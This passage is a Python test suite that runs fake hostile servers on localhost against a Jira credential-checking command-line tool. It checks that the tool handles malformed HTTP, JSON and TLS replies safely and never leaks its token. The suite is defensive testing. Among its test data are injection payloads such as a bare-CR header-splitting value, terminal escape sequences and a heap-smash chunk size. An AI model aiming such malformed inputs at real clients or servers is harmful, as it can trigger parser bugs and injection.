#!/usr/bin/env python3
"""Hostile servers, faults and bad input: atlwho's reliability suite
and its resource-limit test.

    ATLWHO=./atlwho python3 tests/e2e/test_hostile.py [-k SUBSTRING] [-v] [-x] [--list]
                                        [--show] [--no-sweep] [--bisect-limits]
    ATLWHO_VALGRIND=1 ...   every atlwho run under valgrind memcheck (errors or leaks: exit 99);
                            deadlines get slack, the cut sweep samples 20 offsets per reply,
                            the resource-limit cases are skipped
  -k: only rows/sweeps whose name contains SUBSTRING (repeatable); --show: print each row's
  exit code and stderr; --bisect-limits: measure the smallest ulimit -v / -n, print, exit.
  About 1 minute plain; about 10 minutes under valgrind.

Python 3 standard library and the `openssl` command only; servers on 127.0.0.1 / ::1
ephemeral ports only (tests/e2e/fakeatl.py, plus the raw behaviours defined here); every
run bounded in time; every server stopped.

The table (ROWS) has one row per misbehaviour: {name, server behaviour, atlwho arguments,
expected exit code, expected message fragment (case-insensitive; a tuple lists acceptable
wordings)}, plus optional checks. Groups: HTTP framing and header abuse, JSON abuse,
time-outs (each must end within one second of its deadline), TLS failures, credentials
(the token must reach no origin but the one named), output injection.

Checks made on every row, whatever it says (tests/e2e/harness.py's invariants, shared
with test_cli.py; the rows, the sweep and the resource limits all get them):
  - the run ends (no hang), by exiting (a signal is a crash), with a documented code 0..8
    (under valgrind, 99 means memcheck found errors or definite/indirect leaks);
  - the token, its Basic encoding, and any run of 12 of its bytes or 16 base64 characters
    of it are never on stdout or stderr;
  - every request that carries the token was addressed to the origin named on the command
    line (its https twin for an http URL); a proxy never sees the token outside the tunnel;
  - stderr, and stdout in text and -i modes, carry no raw control characters (C0 but
    newline/tab, DEL, C1) and no invalid UTF-8: a hostile server cannot reach the terminal;
  - text output of a success is only "field: value" lines; -j output is exactly one JSON
    object whose ok/exit agree with the exit code; --format env output evaluates in every
    POSIX shell here without running anything; a failure says something on stderr.
Then the connection-cut sweep (8 cases): a valid reply (Content-Length and chunked), cut
after every byte offset k = 0..len-1, over plain http (then FIN, or RST), over TLS (every
byte of the encrypted records, then RST) and over TLS at the HTTP level (the first k bytes,
then a clean close_notify): atlwho must never exit 0 and never crash (exit 5 or 7). The full
reply (k = len) is run too and must exit 0, which proves the reply is valid. Runs go 4 at a
time (a thread pool).
Then the resource limits (2 cases): a full HTTPS check succeeds under `ulimit -v` and
`ulimit -n` (values and how they were found: see LIMIT_V_KIB), and one descriptor short it
fails cleanly and says why. Skipped under valgrind and for sanitizer builds.

Output: FAIL lines with file:line, expected and got; the last line is "N passed, N failed[,
N skipped]"; the exit status is 1 when anything failed.
"""

import concurrent.futures
import gzip
import json
import os
import random
import re
import signal
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time
import warnings

sys.dont_write_bytecode = True   # no __pycache__ in the tree (before the harness)
import harness  # noqa: E402
import tls12  # noqa: E402
from harness import (F, Proxy, Row, Srv, b64_forms, display_reply, elapsed_under, env_vars, err_any,
                     err_lacks, err_lines, field_is, json_out, lines, n_lines, no_line, no_plain_token, no_run,
                     nreq, out_exact, out_has, token_never_at)

VALGRIND, EMU = harness.VALGRIND, harness.EMU
RUN_TIMEOUT = 150.0 if VALGRIND else 20.0   # seconds: no single run may take longer
SWEEP_WORKERS = 4
SWEEP_SAMPLES_VALGRIND = 20    # offsets per sweep under valgrind (the full sweep is hours)
# Seconds for the whole check where a row moves tens of MB (valgrind is ~30x slower;
# under qemu-user, 50 MB through AES-GCM in C, where the target has no AES
# instructions, is 9.5 G (armv7), 21.7 G (mipsel), 16.1 G (s390x) guest
# instructions: 4 to 40 s on a 2-core machine, idle to busy; tests/bench/README.md).
BIG_M = "200" if VALGRIND else "120" if EMU else "30"

TOKEN = "HOSTILE-tok-Qz7x-9Rm4-leak"        # distinctive: any sighting is a leak
USER = "fred"
REQ_ID = F.REQUEST_ID

JIRA_BODY = F.jdump(F.jira_server_user())
JSON_CT = b"Content-Type: application/json;charset=UTF-8"
CRLF = b"\r\n"

warnings.filterwarnings("ignore", category=DeprecationWarning)   # ssl.TLSVersion.TLSv1


# ============================================================================ servers
# Srv: a fakeatl.FakeServer (scripted replies); Hook: FakeServer's on_connect for raw
# behaviours (the TLS layer or the socket itself misbehaves); BlackHole: connect() hangs.

def plain(handler, **kw):
    return Srv(handler, tls=None, **kw)


def hook(fn, host="both"):
    """A server whose every connection is handled by fn(conn, server) on the raw socket
    (the raw TLS misbehaviours below: {base} is an https URL)."""
    return Srv(F.static(None), tls=None, host=host, on_connect=_hooked(fn), scheme="https")


def _hooked(fn):
    def on_connect(conn, server):
        try:
            fn(conn, server)
        except (OSError, F._Stopped):
            pass
        return True
    return on_connect


def hold(server, seconds=1e9):
    """Keep a connection open (send nothing) until the server stops or seconds pass."""
    server._stop.wait(seconds)


def read_some(conn, n=65536, timeout=5.0):
    conn.settimeout(timeout)
    try:
        return conn.recv(n)
    except OSError:
        return b""


def rst_close(conn):
    try:
        conn.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    except OSError:
        pass
    conn.close()


# ---- raw TLS misbehaviours (on_connect hooks)

def tls_stall_silent(conn, server):
    """Accept TCP, read the ClientHello, never answer."""
    read_some(conn)
    hold(server)


def tls_stall_mid_serverhello(conn, server):
    """Answer the ClientHello with the first bytes of a ServerHello record, then stall."""
    read_some(conn)
    conn.sendall(b"\x16\x03\x03\x00\x7a\x02\x00\x00\x76\x03\x03" + bytes(range(20)))
    hold(server)


def tls_random_garbage(conn, server):
    read_some(conn)
    conn.sendall(bytes(random.Random(6).getrandbits(8) for _ in range(600)))
    hold(server, 3)


def tls_huge_record(conn, server):
    """A handshake record header that announces 65535 bytes (over the 16 KiB + overhead max)."""
    read_some(conn)
    conn.sendall(b"\x16\x03\x03\xff\xff" + b"\x02" * 4096)
    hold(server, 3)


def tls_http_reply(conn, server):
    read_some(conn)
    conn.sendall(b"HTTP/1.1 400 Bad Request\r\nContent-Length: 15\r\n\r\nThis is not TLS")


def tls_fatal_alert(conn, server):
    read_some(conn)
    conn.sendall(b"\x15\x03\x03\x00\x02\x02\x28")   # fatal handshake_failure
    hold(server, 3)


def tls_close_after_hello(conn, server):
    read_some(conn)


def tls_rst_after_hello(conn, server):
    read_some(conn)
    rst_close(conn)


def tls_version_confusion(version, suite):
    """CVE-2026-115490: answer the ClientHello with a ServerHello that has no
    supported_versions extension, legacy_version `version` and cipher suite `suite`
    (no extensions at all), then record what the client sends back (server.after_hello)
    and keep the connection open: a correct client refuses at once with an alert; an
    affected one waits for the rest of a handshake that never comes."""
    def fn(conn, server):
        ch = read_some(conn)
        if not ch:
            return   # a connection the client raced and dropped (RFC 8305): not the one to judge
        # record header 5, handshake header 4, client_version 2, random 32, then the session id
        sid = ch[44:44 + ch[43]] if len(ch) > 44 else b""
        body = struct.pack(">H", version) + bytes(random.Random(version ^ suite).getrandbits(8)
                                                  for _ in range(32))
        body += bytes([len(sid)]) + sid + struct.pack(">H", suite) + b"\x00"
        hs = b"\x02" + len(body).to_bytes(3, "big") + body
        conn.sendall(b"\x16\x03\x03" + struct.pack(">H", len(hs)) + hs)
        server.after_hello = read_some(conn, timeout=8.0)
        hold(server, 30)
    fn.__name__ = "tls_version_confusion_%04x_%04x" % (version, suite)
    return fn


class Reneg:
    """A row's server that renegotiates (TLS 1.2, tests/e2e/tls12.py) as mode says, then
    sends a Jira reply; "newcert" presents the emptysubject leaf (valid for localhost, same
    CA) in the renegotiation."""
    tls, scheme = "ecdsa", "https"

    def __init__(self, mode):
        self.mode = mode

    def start(self, pk):
        return tls12.Server(pk.leaf["ecdsa"].cert, pk.leaf["ecdsa"].key, self.mode, resp(),
                            cert2=pk.leaf["emptysubject"].cert)


def reneg_events(*want):
    """The renegotiating server saw these events (the row's condition really happened)."""
    def f(r):
        end = time.monotonic() + 5   # the server's thread notes the end after the client has gone
        while not set(want) <= set(r.srv.events) and time.monotonic() < end:
            time.sleep(0.02)
        assert set(want) <= set(r.srv.events), "server events %r, expected %r among them" % (
            r.srv.events, want)
    return f


def cert_refused(after, how):
    """TLS 1.3 with a CertificateRequest, played through ssl.MemoryBIO so that nothing reaches
    the client unless sent here; then the connection ends without any alert (how: "fin", a
    close; "rst", SO_LINGER 0) after: "flight", the server's flight (the client's empty
    Certificate is never read: its write succeeds, the server's kernel answers it with a
    reset, and the request's write fails with nothing left to read); "certificate", the
    client's empty Certificate (OpenSSL refuses it; its alert is dropped); "request", the
    request's record too. server.state["seen"] says how far it got."""
    def fn(conn, server):
        leaf = _PK.leaf["ecdsa"]
        ctx = F.TLS(leaf.cert, leaf.key, versions="1.3", client_ca=_PK.clientca).context()
        inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
        obj = ctx.wrap_bio(inc, out, server_side=True)
        seen = server.state.setdefault("seen", [])
        conn.settimeout(10)
        tail = b""      # the client's bytes after the server's flight, for counting its records
        while True:
            try:
                obj.do_handshake()
                seen.append("handshake completed")    # never: the certificate is required
                break
            except ssl.SSLWantReadError:
                flight = out.read()
                if flight:
                    conn.sendall(flight)
                    seen.append("flight")
                    if after == "flight":
                        break
                d = conn.recv(65536)
                if not d:
                    return
                if "flight" in seen:
                    tail += d
                inc.write(d)
            except ssl.SSLError as e:
                out.read()                              # OpenSSL's alert: never sent
                seen.append("certificate refused: %s" % e.reason)
                break
        if after == "request":
            # the client's records after the flight: [ChangeCipherSpec (compatibility mode),]
            # Certificate, Finished, then the request: the third application_data record
            while sum(1 for t in tls_record_types(tail) if t == 23) < 3:
                d = conn.recv(65536)
                if not d:
                    return
                tail += d
            seen.append("request")
        if how == "rst":
            rst_close(conn)
        else:
            conn.close()
    fn.__name__ = "cert_refused_%s_%s" % (after, how)
    return fn


def peer_pid(conn):
    """The pid of the local process holding conn's other end (atlwho, or valgrind or qemu
    running it), from /proc/net/tcp* and /proc/PID/fd; None if not found."""
    port, mine = conn.getpeername()[1], conn.getsockname()[1]
    inode = None
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(table) as f:
                next(f)
                for line in f:
                    x = line.split()
                    if int(x[1].rsplit(":", 1)[1], 16) == port and int(x[2].rsplit(":", 1)[1], 16) == mine:
                        inode = x[9]
        except OSError:
            pass
    if not inode:
        return None
    want = "socket:[%s]" % inode
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if any(os.readlink("/proc/%s/fd/%s" % (pid, fd)) == want for fd in os.listdir("/proc/%s/fd" % pid)):
                return int(pid)
        except OSError:
            continue
    return None


def stopped(pid, seconds=5.0):
    """Wait until pid is stopped (state T in /proc/PID/stat)."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            with open("/proc/%d/stat" % pid) as f:
                if f.read().rsplit(")", 1)[1].split()[0] in ("T", "t"):
                    return True
        except OSError:
            return False
        time.sleep(0.002)
    return False


def tls12_reset_after_finished(conn, server):
    """TLS 1.2 with a CertificateRequest; the empty Certificate is accepted (verify_mode
    CERT_OPTIONAL) and the handshake completes, but the server resets the connection right
    after its Finished, before reading the request, without an alert. The client is stopped
    (SIGSTOP) while the Finished and the reset reach it, so that the reset is always there
    before its request's write: that write fails, and nothing is left to read (an EOF)."""
    leaf = _PK.leaf["ecdsa"]
    ctx = F.TLS(leaf.cert, leaf.key, versions="1.2", client_ca=_PK.clientca, require_client=False).context()
    inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ctx.wrap_bio(inc, out, server_side=True)
    seen = server.state.setdefault("seen", [])
    conn.settimeout(10)
    while True:
        try:
            obj.do_handshake()
            break
        except ssl.SSLWantReadError:
            d = out.read()
            if d:
                conn.sendall(d)
            d = conn.recv(65536)
            if not d:
                return
            inc.write(d)
    seen.append("handshake completed" + (" without a client certificate" if not obj.getpeercert() else ""))
    pid = peer_pid(conn)
    if pid and pid != os.getpid():
        os.kill(pid, signal.SIGSTOP)
        if stopped(pid):
            seen.append("client stopped")
    try:
        conn.sendall(out.read())
        rst_close(conn)
    finally:
        if pid and pid != os.getpid():
            os.kill(pid, signal.SIGCONT)


def tls_record_types(data):
    """The content types of the whole TLS records in data."""
    out, o = [], 0
    while o + 5 <= len(data) and o + 5 + int.from_bytes(data[o + 3:o + 5], "big") <= len(data):
        out.append(data[o])
        o += 5 + int.from_bytes(data[o + 3:o + 5], "big")
    return out


def cert_seen(what):
    """The cert_refused server got as far as what."""
    def f(r):
        end = time.monotonic() + 5
        seen = r.srv.state.get("seen", [])
        while not any(x.startswith(what) for x in seen) and time.monotonic() < end:
            time.sleep(0.02)
        assert any(x.startswith(what) for x in seen), "server saw %r, expected %r" % (seen, what)
    return f


TLS_ALERTS = {"illegal_parameter": 47, "protocol_version": 70, "handshake_failure": 40}


def client_alert(*names):
    """The client's answer to the ServerHello is a fatal alert, one of names."""
    want = {TLS_ALERTS[n] for n in names}

    def f(r):
        # The server's thread records the answer after the client has gone: wait for it.
        end = time.monotonic() + 10
        while getattr(r.srv, "after_hello", None) is None and time.monotonic() < end:
            time.sleep(0.02)
        got = getattr(r.srv, "after_hello", None) or b""
        assert len(got) >= 7 and got[0] == 0x15 and got[5] == 2 and got[6] in want, (
            "expected a fatal %s alert from the client, got %r" % ("/".join(names), got[:16]))
    return f


# ---- raw HTTP misbehaviours over plain sockets

def endless(first, then):
    """A handler: send `first`, then `then` over and over until the client goes away."""
    def handler(req):
        def gen():
            yield first
            while True:
                yield then
        return gen()
    handler.__name__ = "endless"
    return handler


def reply(data):
    """Send data then close (FIN)."""
    return F.static([data, F.Close()])


# ============================================================================ reply builders

def resp(status_line=b"HTTP/1.1 200 OK", headers=(JSON_CT, b"X-AUSERNAME: fred"),
         body=JIRA_BODY, cl=True):
    """Raw response bytes, headers given as raw lines."""
    h = [status_line] + [x for x in headers]
    if cl:
        h.append(b"Content-Length: %d" % len(body))
    return CRLF.join(h) + CRLF + CRLF + body


def chunked(body=JIRA_BODY, headers=(JSON_CT, b"X-AUSERNAME: fred"), status=b"HTTP/1.1 200 OK",
            chunks=None):
    """Chunked response; chunks (raw bytes after the head) overrides the framing."""
    h = [status] + list(headers) + [b"Transfer-Encoding: chunked"]
    return CRLF.join(h) + CRLF + CRLF + (chunks if chunks is not None else F.chunk(body, [300]))


def body_reply(body, ct=JSON_CT, status=b"HTTP/1.1 200 OK"):
    return reply(resp(status, (ct, b"X-AUSERNAME: fred"), body))


def big_string_reply(member, size=50 * 1024 * 1024):
    """A chunked 200 whose `member` is a `size`-byte string, streamed in 1 MiB chunks."""
    def handler(req):
        def gen():
            yield (b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nX-AUSERNAME: fred\r\n"
                   b"Transfer-Encoding: chunked\r\n\r\n")
            head = b'{"name":"fred","displayName":"Fred F. User","active":true,"%s":"' % member
            yield F.chunk(head, last=False)
            block = b"A" * (1024 * 1024)
            piece = b"%x\r\n" % len(block) + block + b"\r\n"
            for _ in range(size // len(block)):
                yield piece
            yield F.chunk(b'","after":1}')
        return gen()
    return handler


def deep_reply(depth, inside_user=False, kind="array"):
    if kind == "array":
        nest = b"[" * depth + b"]" * depth
    else:
        nest = b'{"a":' * depth + b"1" + b"}" * depth
    if inside_user:
        body = b'{"name":"fred","displayName":"Fred","x":' + nest + b"}"
    else:
        body = nest
    return reply(chunked(body))


def redirect_to(status, loc_fmt, then=None):
    """Redirect (loc_fmt filled from the row's context) unless `then` handles the request:
    then(req) returns None to redirect anyway."""
    def h(req):
        if then is not None:
            r = then(req)
            if r is not None:
                return r
        return F.reply_redirect(status, loc_fmt.format(**req.server.vars))
    h.__name__ = "redirect"
    return h


def at_path(path, handler):
    """then= for redirect_to: handler for requests at path, None (redirect) elsewhere."""
    def t(req):
        return handler(req) if req.path == path else None
    return t


JIRA_TOK = F.jira(token=TOKEN)      # a Jira at / that accepts TOKEN



# ============================================================================ rows

class H(Row):
    """One row. rc: an int or a tuple of acceptable codes. frag: a message fragment (str),
    a tuple of acceptable alternatives, or a list of those that must all appear; searched
    in stderr for failures and stdout for successes unless where= ("out" or "err") says
    otherwise. deadline: seconds; the run must end in [deadline - 0.15, deadline + 1].
    limit: seconds before the run counts as a hang (default RUN_TIMEOUT; a row with a
    longer -m needs more). The rest: harness.Row."""

    def __init__(self, name, srv, args, rc, frag=None, where=None, token=TOKEN, **kw):
        frags = [] if frag is None else frag if isinstance(frag, list) else [frag]
        want = rc if isinstance(rc, tuple) else (rc,)
        where = where or ("out" if set(want) <= {0, 1} else "err")
        super().__init__(name, args, rc, srv=srv, token=token, _depth=2, **{where: frags}, **kw)


# ---- checks of this suite's own (the rest: harness.py)

def rss_under(kib):
    """Peak RSS bound. A small check peaks near 2.2 MiB (glibc PIE build); the body is
    streamed, so a 50 MB one must not add more than a few hundred KiB."""
    def f(c):
        if VALGRIND or EMU:
            return  # under valgrind or qemu-user the RSS is theirs, not atlwho's
        lim = kib
        if _san_build():
            # ASan's shadow memory and quarantine add ~8 MiB; a buffered 50 MB
            # body would still be far above 32 MiB, so the check keeps its point.
            lim = max(kib, 32 * 1024)
        assert c.maxrss is not None, "no RSS sample (the process ended too fast?)"
        assert c.maxrss <= lim, "peak RSS %d KiB, expected at most %d KiB (body buffered?)" % (
            c.maxrss, lim)
    f.wants_rss = True
    return f


_san_cache = []


def _san_build():
    if not _san_cache:
        _san_cache.append(sanitizer_build() is not None)
    return _san_cache[0]



# ============================================================================ the table

T = ["-p", "jira", "--cacert", "{ca}", "{base}"]          # https, our CA, Jira endpoint
TP = ["-p", "jira", "{base}"]                              # plain http server (tls=None)
CAPTCHA_URL = "https://jira.example.com/login.jsp"
MALFORMED = ("malformed", "bad http", "invalid", "forbidden", "not an http", "unexpected")


def h401(*extra_headers, reason=b"Unauthorized"):
    return resp(b"HTTP/1.1 401 " + reason, (JSON_CT,) + extra_headers,
                F.jdump(F.JIRA_NOT_AUTHENTICATED))


GZ_BODY = gzip.compress(JIRA_BODY)
DEEP = 100000

ROWS = [
    # ================================================================ HTTP: status line
    H("no status line: header fields first", Srv(reply(
        JSON_CT + CRLF + b"Content-Length: %d\r\n\r\n" % len(JIRA_BODY) + JIRA_BODY)), T, 7,
      ("status line", "not an http")),
    H("no status line at all: a bare JSON body (HTTP/0.9 style)", Srv(reply(JIRA_BODY)), T, 7,
      ("status line", "not an http")),
    H("HTTP/2 as the version", Srv(reply(resp(b"HTTP/2 200"))), T, 7,
      ("http/1", "version", "status line")),
    H("HTTP/2.0 200 OK", Srv(reply(resp(b"HTTP/2.0 200 OK"))), T, 7, ("http/1", "version", "status line")),
    H("garbage version HTTQ/1.1", Srv(reply(resp(b"HTTQ/1.1 200 OK"))), T, 7, ("status line", "not an http")),
    H("HTTP/1.1000 minor version garbage", Srv(reply(resp(b"HTTP/1.1000 200 OK"))), T, 7,
      ("status line", "version")),
    H("status 000", Srv(reply(resp(b"HTTP/1.1 000 Zero"))), T, 7, "status"),
    H("status 99 (two digits)", Srv(reply(resp(b"HTTP/1.1 99 Low"))), T, 7, "status"),
    H("status 1000 (four digits)", Srv(reply(resp(b"HTTP/1.1 1000 Big"))), T, 7, "status"),
    H("status 2OO with letters", Srv(reply(resp(b"HTTP/1.1 2OO OK"))), T, 7, "status"),
    H("101 Switching Protocols nobody asked for", Srv(reply(resp(b"HTTP/1.1 101 Switching Protocols",
                                                            (b"Upgrade: h2c",), b"", cl=False))), T, 7,
      ("status", "101")),
    H("endless status line (no CRLF ever)", Srv(endless(b"HTTP/1.1 200 ", b"A" * 8192)), T, 7,
      ("64 kib", "too large", "larger", "status line"), check=elapsed_under(5)),
    H("endless interim 100 Continue responses", Srv(endless(b"", b"HTTP/1.1 100 Continue\r\n\r\n")), T, 7,
      ("interim", "1xx"), check=elapsed_under(5)),
    H("two interim replies (100, 103 with fields) then 200: accepted", Srv(reply(
        b"HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 103 Early Hints\r\nLink: </a.css>; rel=preload\r\n\r\n" +
        resp())), T, 0, "name: fred"),

    # ================================================================ HTTP: header fields
    H("header line without a colon", Srv(reply(resp(headers=(JSON_CT, b"X-AUSERNAME-fred")))), T, 7,
      ("header", "field", "colon")),
    H("empty field name", Srv(reply(resp(headers=(JSON_CT, b": fred")))), T, 7, ("header", "field")),
    H("invalid byte in a field name", Srv(reply(resp(headers=(JSON_CT, b"X-A(B): 1")))), T, 7,
      ("header", "field", "byte")),
    H("TAB instead of SP in the status line", Srv(reply(resp(b"HTTP/1.1\t200 OK"))), T, 7, "status line"),
    H("whitespace between field name and colon", Srv(reply(resp(headers=(JSON_CT, b"X-AUSERNAME : fred")))),
      T, 7, ("header", "field", "whitespace")),
    H("header section over the 64 KiB cap (3000 fields)", Srv(reply(resp(
        headers=[JSON_CT] + [b"X-Filler-%04d: %s" % (i, b"v" * 20) for i in range(3000)]))), T, 7,
      ("64 kib", "header section", "too large", "larger")),
    H("endless header section", Srv(endless(b"HTTP/1.1 200 OK\r\n", b"X-More: " + b"m" * 100 + b"\r\n")),
      T, 7, ("64 kib", "header section", "too large", "larger"), check=elapsed_under(5)),
    H("a single header field of 1 MiB", Srv(reply(resp(headers=(JSON_CT, b"X-Big: " + b"b" * (1 << 20))))),
      T, 7, ("16 kib", "too large", "larger")),
    H("NUL byte in a header value", Srv(reply(resp(headers=(JSON_CT, b"X-AUSERNAME: fr\x00ed")))), T, 7,
      ("forbidden", "0x00", "byte")),
    H("bare CR inside a header value", Srv(reply(resp(headers=(JSON_CT, b"X-AUSERNAME: fred\rX-Evil: 1")))),
      T, 7, ("forbidden", "0x0d", "byte", "cr")),
    H("bare LF inside a header value", Srv(reply(resp(headers=(JSON_CT, b"X-AUSERNAME: anon\nymous")))),
      T, 7, ("forbidden", "0x0a", "byte", "lf", "header")),
    H("LF-only line endings throughout", Srv(reply(resp().replace(b"\r\n", b"\n"))), T, 7, MALFORMED),
    H("ESC sequence in a header value", Srv(reply(resp(headers=(JSON_CT, b"X-AUSERNAME: \x1b[31mfred")))),
      T, 7, ("forbidden", "0x1b", "byte")),
    H("obs-fold in X-Seraph-LoginReason of a 401: unfolded, still rejected", Srv(reply(
        h401(b"X-Seraph-LoginReason: AUTHENTICATED\r\n\t_FAILED", b"X-AREQUESTID: " + REQ_ID.encode()))),
      T, 3, ["AUTHENTICATED", REQ_ID]),
    H("obs-fold in Content-Type of a 200: accepted", Srv(reply(resp(
        headers=(b"Content-Type: application/json;\r\n charset=UTF-8", b"X-AUSERNAME: fred")))), T, 0,
      "name: fred"),
    H("obs-fold line right after the status line", Srv(reply(resp(
        headers=(b" X-Folded: before-any-field", JSON_CT, b"X-AUSERNAME: fred")))), T, (0, 7)),
    H("401 reason phrase of 10 KiB", Srv(reply(h401(reason=b"Unauthorized" + b"!" * 10240))), T, 3,
      ("401", "rejected")),

    # ================================================================ HTTP: Content-Length
    H("Content-Length negative", Srv(reply(resp(headers=(JSON_CT, b"Content-Length: -1"), cl=False))),
      T, 7, "content-length"),
    H("Content-Length over 64 bits", Srv(reply(resp(
        headers=(JSON_CT, b"Content-Length: 184467440737095516160"), cl=False))), T, 7, "content-length"),
    H("Content-Length 2^63-1 (huge, valid), body cut by close", Srv(reply(resp(
        headers=(JSON_CT, b"Content-Length: 9223372036854775807"), cl=False))), T, 7,
      ("cut short", "truncat", "ended")),
    H("Content-Length not numeric", Srv(reply(resp(headers=(JSON_CT, b"Content-Length: abc"), cl=False))),
      T, 7, "content-length"),
    H("Content-Length with a plus sign", Srv(reply(resp(
        headers=(JSON_CT, b"Content-Length: +%d" % len(JIRA_BODY)), cl=False))), T, 7, "content-length"),
    H("Content-Length in hex", Srv(reply(resp(
        headers=(JSON_CT, b"Content-Length: 0x%x" % len(JIRA_BODY)), cl=False))), T, 7, "content-length"),
    H("Content-Length duplicated with different values", Srv(reply(resp(
        headers=(JSON_CT, b"Content-Length: %d" % len(JIRA_BODY), b"Content-Length: %d" % (len(JIRA_BODY) - 9)),
        cl=False))), T, 7, ("conflict", "content-length")),
    H("Content-Length list with different values in one field", Srv(reply(resp(
        headers=(JSON_CT, b"Content-Length: %d, 12" % len(JIRA_BODY)), cl=False))), T, 7, "content-length"),
    H("Content-Length together with chunked", Srv(reply(chunked(
        headers=(JSON_CT, b"Content-Length: %d" % len(JIRA_BODY))))), T, 7,
      ("content-length", "framing")),
    H("body shorter than Content-Length, then close", Srv(reply(resp()[:-100])), T, 7,
      ("cut short", "truncat", "ended")),
    H("bytes after a complete Content-Length body are ignored", Srv(reply(resp() + b"GARBAGE{}")), T, 0,
      "name: fred"),

    # A body without Content-Length or chunked framing ends where the connection closes. Over
    # TLS only close_notify vouches for that end: a bare TCP close may be an attacker's cut
    # (RFC 8446 section 6.1, RFC 9112 section 9.8). Plain http has nothing better than the close.
    H("close-delimited body, then TLS close_notify: accepted", Srv(F.static([resp(cl=False), F.CloseNotify()])),
      T, 0, "name: fred"),
    H("close-delimited body, then a TCP close without close_notify: cut short", Srv(reply(resp(cl=False))),
      T, 7, ["cut short", "without tls close_notify"], check=[no_line("name:")]),
    H("close-delimited body cut in the middle, then a TCP close without close_notify: cut short",
      Srv(reply(resp(cl=False)[:-40])), T, 7, ["cut short", "without tls close_notify"]),
    H("close-delimited body over plain http, then FIN: accepted", plain(reply(resp(cl=False))), TP, 0,
      "name: fred"),
    # ================================================================ HTTP: Transfer-Encoding / chunks
    H("Transfer-Encoding: gzip, chunked", Srv(reply(chunked(headers=(JSON_CT,)).replace(
        b"Transfer-Encoding: chunked", b"Transfer-Encoding: gzip, chunked"))), T, 7, "transfer-encoding"),
    H("Transfer-Encoding: chunked, identity (chunked not last)", Srv(reply(chunked(headers=(JSON_CT,)).replace(
        b"Transfer-Encoding: chunked", b"Transfer-Encoding: chunked, identity"))), T, 7, "transfer-encoding"),
    H("Transfer-Encoding: chunked twice (chunked applied twice)", Srv(reply(chunked(
        headers=(JSON_CT, b"Transfer-Encoding: chunked")))), T, 7, "transfer-encoding"),
    H("Transfer-Encoding: identity (not a transfer coding)", Srv(reply(resp(
        headers=(JSON_CT, b"Transfer-Encoding: identity"), cl=False))), T, 7, "transfer-encoding"),
    H("chunked in an HTTP/1.0 reply", Srv(reply(chunked(status=b"HTTP/1.0 200 OK"))), T, 7,
      "transfer-encoding"),
    H("chunk size overflowing 64 bits", Srv(reply(chunked(chunks=b"10000000000000000\r\n" + JIRA_BODY))), T, 7,
      ("64 bits", "chunk")),
    H("chunk size ffffffffffffffff, then close", Srv(reply(chunked(chunks=b"ffffffffffffffff\r\n" + JIRA_BODY))),
      T, 7, ("cut short", "truncat", "ended", "chunk")),
    H("chunk size ffffffff0001f400 (BusyBox heap smash)", Srv(reply(chunked(
        chunks=b"ffffffff0001f400\r\n" + JIRA_BODY))), T, 7, ("cut short", "truncat", "chunk")),
    H("negative chunk size", Srv(reply(chunked(chunks=b"-5\r\nhello\r\n0\r\n\r\n"))), T, 7, "chunk"),
    H("chunk size line without hex digits", Srv(reply(chunked(chunks=b";ext=1\r\nhello\r\n0\r\n\r\n"))), T, 7,
      "chunk"),
    H("chunk size 0x1a", Srv(reply(chunked(chunks=b"0x1a\r\n" + JIRA_BODY[:26] + b"\r\n0\r\n\r\n"))), T, 7,
      "chunk"),
    H("chunk data not followed by CRLF", Srv(reply(chunked(
        chunks=b"%x\r\n" % len(JIRA_BODY) + JIRA_BODY + b"XX0\r\n\r\n"))), T, 7, ("crlf", "chunk")),
    H("chunk extension over 1 KiB", Srv(reply(chunked(
        chunks=b"%x;x=%s\r\n" % (len(JIRA_BODY), b"e" * 2000) + JIRA_BODY + b"\r\n0\r\n\r\n"))), T, 7, "chunk"),
    H("upper-case hex and chunk extensions: accepted", Srv(reply(chunked(
        chunks=b"%X;name=\"v\"\r\n" % len(JIRA_BODY) + JIRA_BODY + b"\r\n0;last\r\n\r\n"))), T, 0, "name: fred"),
    H("missing last chunk, then close", Srv(reply(chunked()[:-5])), T, 7, ("cut short", "truncat", "ended")),
    H("last chunk without its final CRLF, then close", Srv(reply(chunked()[:-2])), T, 7,
      ("cut short", "truncat", "ended")),
    H("trailer fields after the last chunk: read and discarded", Srv(reply(chunked(
        chunks=F.chunk(JIRA_BODY, [100], trailers=b"X-Trailer: 1\r\nX-AUSERNAME: anonymous\r\n")))), T, 0,
      "name: fred"),
    H("endless trailer section", Srv(endless(chunked(chunks=F.chunk(JIRA_BODY, last=False)) + b"0\r\n",
                                             b"X-Trailer: " + b"t" * 100 + b"\r\n")), T, 7,
      ("trailer", "64 kib", "larger"), check=elapsed_under(5)),

    # ================================================================ HTTP: bodies that must not be
    H("body after a 204 is not read as the reply", Srv(reply(resp(b"HTTP/1.1 204 No Content", cl=False))),
      T, 7, None, check=[no_line("name:")]),
    H("body after a 304 is not read as the reply", Srv(reply(resp(b"HTTP/1.1 304 Not Modified", cl=False))),
      T, 7, ("304", "unexpected"), check=[no_line("name:")]),
    H("Content-Encoding: gzip not asked for (a real gzip body)", Srv(reply(resp(
        headers=(JSON_CT, b"Content-Encoding: gzip", b"X-AUSERNAME: fred"), body=GZ_BODY))), T, 7, "gzip"),
    H("Content-Encoding: br not asked for", Srv(reply(resp(
        headers=(JSON_CT, b"Content-Encoding: br", b"X-AUSERNAME: fred")))), T, 7, "br"),
    H("connection closed before any byte", Srv(F.static(None)), T, (5, 7), ("closed", "reset", "without")),

    # ================================================================ JSON abuse
    H("JSON truncated inside complete framing", Srv(body_reply(JIRA_BODY[:300])), T, 7, "json"),
    H("JSON with trailing garbage", Srv(body_reply(JIRA_BODY + b" xyz")), T, 7, "json"),
    H("two JSON objects back to back", Srv(body_reply(JIRA_BODY + JIRA_BODY)), T, 7, "json"),
    H("JSON invalid escape \\x", Srv(body_reply(b'{"name":"fred","displayName":"a\\x41"}')), T, 7,
      ("escape", "json")),
